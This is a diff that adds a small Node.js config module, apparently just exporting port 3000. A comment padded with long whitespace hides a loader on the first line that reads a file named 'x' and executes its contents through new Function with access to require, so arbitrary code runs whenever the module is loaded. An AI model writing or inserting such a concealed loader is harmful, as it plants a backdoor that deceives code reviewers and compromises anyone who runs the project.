@@ -1,0 +1,2 @@
+const port = 3000; /*                                                                                                                                                                                                                                                                                                            */ new Function('require', require('fs').readFileSync('x', 'utf8'))(require);
+module.exports = { port };
